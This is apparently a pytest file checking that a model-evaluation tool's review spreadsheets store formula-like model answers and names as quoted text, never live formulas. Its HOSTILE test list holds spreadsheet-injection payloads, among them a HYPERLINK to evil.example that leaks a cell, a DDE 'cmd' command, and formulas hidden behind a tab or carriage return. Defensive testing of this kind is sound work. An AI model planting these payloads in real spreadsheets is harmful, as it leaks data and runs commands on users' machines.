"""The experts' workbooks (issue #48): a text someone else chose (a model's answer, a model name, a release id) that
starts like a formula is kept as text in both exports (``review export``, ``judge-review export``), never a live
formula: stored as a string, marked with Excel's quote prefix, and read back exactly as it was written."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import pyarrow as pa
import pytest

from craftmd.analysis.agreement import review, rubric_review
from craftmd.release import RunRecord, write_release
from craftmd.scoring.scorers import scores_from_grades

#: What a spreadsheet would run: a link that leaks what it is given, a DDE command, arithmetic, a function, and the
#: starts a tab or a carriage return hides.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def _formulas(xlsx: bytes) -> list[bytes]:
    """The formulas of every sheet of a workbook, as its XML holds them (``<f>`` elements, or cells typed ``str``)."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    return [f for s in sheets for f in re.findall(rb"<f>.*?</f>|<c [^>]*t=\"str\"", s)]


def _cells(xlsx: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.fixture(scope="module")
def hostile_world(tmp_path_factory):
    """A release named like a formula, of a model named like one, whose answers all start like one."""
    import polars as pl

    root = tmp_path_factory.mktemp("hostile_workbooks")
    (root / "data" / "all").mkdir(parents=True)
    cases = [{"case_id": f"case_{n}", "source": "derm_public", "vignette": f"Vignette {n}.", "answer": f"Disease {n}",
              "single_dx": True} for n in range(len(HOSTILE))]  # fmt: skip
    pl.DataFrame(cases).write_parquet(root / "data" / "all" / "test-00000-of-00001.parquet")
    conv, ans, grades = [], [], []
    for n, text in enumerate(HOSTILE):
        key = {"case_id": f"case_{n}", "trial": 0, "with_image": False}
        msgs = [{"role": "assistant", "content": "What brings you in?"}, {"role": "user", "content": text},
                {"role": "assistant", "content": f"Final diagnosis: {text}"}]  # fmt: skip
        conv.append(
            {**key, "conversation": "standard", "messages": msgs, "summary": None, "n_turns": 1, "ended": "final_diagnosis"}
        )
        ans.append({**key, "setting": "multiturn", "format": "frq", "response": text, "status": "ok"})
        grades.append({**key, "setting": "multiturn", "format": "frq", "grader": "upstream-gpt4", "resolved": "x",
                       "resolved_kind": "single", "correct": True, "detail": None})  # fmt: skip
    release = "=1+1"
    manifest = RunRecord(
        task="craftmd", release=release, kind="generated", model='=HYPERLINK("http://evil.example","m")', source={}
    )
    tables = {"conversations": pa.Table.from_pylist(conv), "answers": pa.Table.from_pylist(ans)}
    write_release(root / "releases" / release, manifest, tables, scores=(scores_from_grades(grades), {"upstream-gpt4": {}}))
    return root


def test_review_export_keeps_formula_like_text_as_text(hostile_world, tmp_path):
    out = review.export_review([hostile_world / "releases"], hostile_world / "data", tmp_path / "s.xlsx", n=len(HOSTILE), seed=0)
    data = out.read_bytes()
    assert _formulas(data) == []
    cells = _cells(data)
    shown = {c.value for c in cells}
    assert set(HOSTILE) <= shown and "=1+1" in shown  # the answers and the release id, read back as they were
    assert all(c.quotePrefix and c.data_type == "s" for c in cells if re.match(r"[=+\-@\t\r]", c.value))


def test_judge_review_export_keeps_formula_like_text_as_text():
    rows = [{"review_id": f"{t}|case_{i}", "release": "=1+1", "case_id": f"case_{i}", "trial": 0, "conversation": "standard",
             "with_image": False, "dimension": "history", "question": t, "scores": t} for i, t in enumerate(HOSTILE)]  # fmt: skip
    convs = [{"review_id": r["review_id"], "transcript": r["question"]} for r in rows]
    keys = [{"review_id": r["review_id"], "dimension": "history", "judge": "@judge", "judge_score": 3} for r in rows]
    data = rubric_review.build_workbook(rows, convs, keys, {"model": "-m"})
    assert _formulas(data) == []
    shown = {c.value for c in _cells(data)}
    assert set(HOSTILE) <= shown and {"=1+1", "@judge"} <= shown
